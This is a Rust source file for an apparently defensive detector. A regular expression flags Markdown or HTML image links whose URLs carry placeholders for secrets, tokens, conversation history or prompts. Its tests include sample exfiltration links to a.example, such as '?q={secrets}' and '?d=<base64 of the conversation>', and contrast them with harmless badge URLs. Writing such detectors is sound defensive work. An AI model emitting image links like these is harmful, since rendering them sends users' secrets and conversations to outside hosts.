//! Pictures whose address takes data along: who renders them, sends it.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

/// A picture of Markdown or HTML whose address has a place for what only an
/// agent could put there: a conversation, a secret, what it was told.
static LEAKING: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?xi) (!\[[^\]\n]{0,200}\]\(|<img\ [^>\n]{0,200}src=[\x22']?) \s* https?://[^\s)>\x22'{<\[$%]{1,200} [?&/=.,;:-]
          (\$?\{\{?|<|\[|%7b|\$\() [^)>}\]\n]{0,40}
          (secret|token|passw|api_?-?key|credential|conversation|history|chat|context|prompt|memory|memories|private|sensitive|session|cookie|env(ironment)?\b|user_?-?(data|input|message|info|email)|messages?|answer|contents?\b|base64|data\b|start_value|summary|file_?-?content)",
    )
    .ok()
});

/// Where the first of them is.
pub(super) fn leaking_image_in(text: &str) -> Option<Range<usize>> {
    LEAKING.as_ref()?.find(text).map(|found| found.range())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_that_take_data_along_are_told_from_badges() {
        assert!(LEAKING.is_some());
        let check = |text: &str, expected| {
            assert_eq!(leaking_image_in(text).is_some(), expected, "{text}");
        };
        check("![x](https://a.example/?q={secrets})", true);
        check(
            "![x](https://a.example/p?d=<base64 of the conversation>)",
            true,
        );
        check("![](https://a.example/${chat_history}.png)", true);
        check("<img src=\"https://a.example/?c={{context}}\">", true);
        check("![ci](https://a.example/badge?branch=main)", false);
        check("![v](https://a.example/{version}/badge.svg)", false);
        check("![logo]({base_url}/logo.png)", false);
        check("[docs](https://a.example/{id})", false);
    }
}
